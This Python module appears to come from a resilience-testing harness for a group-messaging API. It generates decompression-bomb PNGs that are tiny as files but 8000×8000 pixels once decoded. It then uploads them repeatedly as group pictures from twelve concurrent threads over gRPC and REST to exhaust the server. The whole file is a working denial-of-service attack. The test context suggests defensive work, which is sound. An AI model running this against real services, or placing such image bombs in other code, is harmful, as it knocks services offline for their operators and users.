"""Pictures that are small as files and huge once they are decoded."""

from __future__ import annotations

import base64
import http.client
import json
import struct
import threading
import time
import zlib
from collections import Counter
from pathlib import Path

import grpc
from wagroups.v1 import groups_pb2, groups_pb2_grpc

from outcome import Outcome
from service import Target, channel

SIDE = 8000
AT_ONCE = 6
PATIENCE = 60.0


def bomb(folder: Path, depth: int) -> bytes:
    """A PNG of 8000 × 8000 pixels of four channels, all black. Made once: it takes seconds."""
    made = folder / f"bomb-{depth}.png"
    if made.exists():
        return made.read_bytes()

    def chunk(name: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))

    squeeze = zlib.compressobj(9)
    row = bytes(1 + SIDE * 4 * depth // 8)
    rows = b"".join(squeeze.compress(row) for _ in range(SIDE)) + squeeze.flush()
    head = struct.pack(">IIBBBBB", SIDE, SIDE, depth, 6, 0, 0, 0)
    file = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")
    made.write_bytes(file)
    return file


def attack(target: Target, source: str, seconds: float) -> Outcome:
    """Six callers over gRPC and six over REST, each with one picture after the other."""
    files = [bomb(target.folder, 16), bomb(target.folder, 8)]
    ended: "Counter[str]" = Counter()
    end = time.monotonic() + seconds

    def over_grpc() -> None:
        with channel(target.grpc, target.keys["greedy"]) as connected:
            stub = groups_pb2_grpc.GroupsServiceStub(connected)
            request = groups_pb2.SetGroupPictureRequest(session="greedy", group_id=target.groups["greedy"])
            while time.monotonic() < end:
                request.data = files[sum(ended.values()) % 2]
                try:
                    stub.SetGroupPicture(request, timeout=PATIENCE)
                    ended["OK"] += 1
                except grpc.RpcError as error:
                    ended[error.code().name] += 1
                time.sleep(0.1)

    def over_rest() -> None:
        path = f"/api/greedy/groups/{target.groups['greedy']}/picture"
        headers = {"X-Api-Key": target.keys["greedy"], "Content-Type": "application/json"}
        bodies = [
            json.dumps({"file": {"mimetype": "image/png", "data": base64.b64encode(file).decode()}}) for file in files
        ]
        while time.monotonic() < end:
            host, port = target.rest
            connection = http.client.HTTPConnection(host, port, timeout=PATIENCE, source_address=(source, 0))
            try:
                connection.request("PUT", path, bodies[sum(ended.values()) % 2], headers)
                response = connection.getresponse()
                response.read()
                ended[str(response.status)] += 1
            except (OSError, http.client.HTTPException) as error:
                ended[type(error).__name__] += 1
            finally:
                connection.close()
            time.sleep(0.1)

    callers = [threading.Thread(target=act) for act in (over_grpc, over_rest) for _ in range(AT_ONCE)]
    for caller in callers:
        caller.start()
    for caller in callers:
        caller.join()
    return Outcome(", ".join(f"{count} × {what}" for what, count in ended.most_common()))
